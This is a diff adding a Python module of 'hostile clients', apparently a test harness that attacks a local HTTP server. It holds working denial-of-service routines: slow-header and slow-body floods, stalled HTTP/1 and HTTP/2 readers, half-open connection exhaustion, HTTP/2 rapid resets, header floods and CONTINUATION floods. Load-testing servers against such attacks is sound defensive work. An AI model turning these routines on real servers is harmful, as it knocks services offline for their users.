@@ -1,0 +1,138 @@
+"""Hostile clients. Each function attacks a port until its event is set."""
+
+import contextlib
+import socket
+import struct
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+SETTINGS, HEADERS, RST_STREAM, CONTINUATION = 4, 1, 3, 9
+
+
+def connect(port, host=2, receive=None):
+    """A connection from 127.0.0.HOST."""
+    sock = socket.socket()
+    if receive:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
+    sock.settimeout(5)
+    sock.bind((f"127.0.0.{host}", 0))
+    sock.connect(("127.0.0.1", port))
+    return sock
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload
+
+
+def request(path):
+    """HPACK: GET, http, literal path and authority."""
+    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01h"
+
+
+def keep(port, stop, count, start, again=None, host=2):
+    """Keeps this many connections open; `again` is sent on each about once a second. Closed ones are replaced."""
+    open_now = []
+    while not stop.is_set():
+        left = []
+        for sock in open_now:
+            try:
+                if again:
+                    sock.sendall(again)
+                sock.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    # A stalled reader reads nothing: only an error or the end is of interest.
+                    if sock.recv(1, socket.MSG_PEEK) == b"":
+                        sock.close()
+                        continue
+                sock.settimeout(5)
+                left.append(sock)
+            except OSError:
+                sock.close()
+        open_now = left
+        for _ in range(min(500, count - len(open_now))):
+            with contextlib.suppress(OSError):
+                sock = connect(port, host, 4096)
+                sock.sendall(start)
+                open_now.append(sock)
+        stop.wait(1 if len(open_now) >= count else 0.05)
+
+
+def stalled_http1(port, stop):
+    keep(port, stop, 1000, b"GET /large.bin HTTP/1.1\r\nhost: h\r\n\r\n")
+
+
+def stalled_http2(port, stop):
+    no_window = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))
+    streams = b"".join(frame(HEADERS, 5, number * 2 + 1, request(b"/large.bin")) for number in range(100))
+    keep(port, stop, 20, no_window + streams)
+
+
+def slow_heads(port, stop):
+    keep(port, stop, 500, b"GET / HTTP/1.1\r\nhost: h\r\nx-a: ", b"a")
+
+
+def slow_bodies(port, stop):
+    keep(port, stop, 500, b"POST /4k.json HTTP/1.1\r\nhost: h\r\ncontent-length: 100000\r\n\r\n", b"a")
+
+
+def half_open(port, stop):
+    """Ten thousand connections that say nothing, from four addresses."""
+    import threading
+
+    threads = [threading.Thread(target=keep, args=(port, stop, 2500, b"", None, host)) for host in (3, 4, 5, 6)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def flood(port, stop, start, batch, pause):
+    """Sends batches on one connection after another, as fast as the other end takes them but for a pause."""
+    while not stop.is_set():
+        with contextlib.suppress(OSError):
+            sock = connect(port)
+            sock.sendall(start)
+            for number in range(1, 1_000_000):
+                sock.sendall(batch(number))
+                sock.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    if sock.recv(1 << 16) == b"":
+                        break
+                sock.settimeout(5)
+                if stop.is_set():
+                    break
+                time.sleep(pause)
+            sock.close()
+
+
+def rapid_reset(port, stop):
+    def batch(number):
+        streams = [(number * 50 + offset) * 2 + 1 for offset in range(50)]
+        cancel = struct.pack("!I", 8)
+        return b"".join(frame(HEADERS, 5, stream, request(b"/4k.json")) + frame(RST_STREAM, 0, stream, cancel) for stream in streams)
+
+    flood(port, stop, PREFACE + frame(SETTINGS, 0, 0), batch, 0.01)
+
+
+def header_flood(port, stop):
+    lines = b"".join(b"x-%d: %s\r\n" % (number, b"a" * 500) for number in range(50))
+    flood(port, stop, b"GET / HTTP/1.1\r\nhost: h\r\n", lambda _: lines, 0.005)
+
+
+def continuation_flood(port, stop):
+    # An incomplete header block of 8 KB frames, which never ends.
+    piece = b"\x00\x07x-flood\x7f\x81\x3e" + b"a" * 8000
+    start = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 1, 1, request(b"/"))
+    flood(port, stop, start, lambda _: frame(CONTINUATION, 0, 1, piece), 0.002)
+
+
+ATTACKS = {
+    "stalled readers, HTTP/1": stalled_http1,
+    "stalled readers, HTTP/2": stalled_http2,
+    "slow heads": slow_heads,
+    "slow bodies": slow_bodies,
+    "rapid resets": rapid_reset,
+    "header flood": header_flood,
+    "CONTINUATION flood": continuation_flood,
+    "half-open connections": half_open,
+}
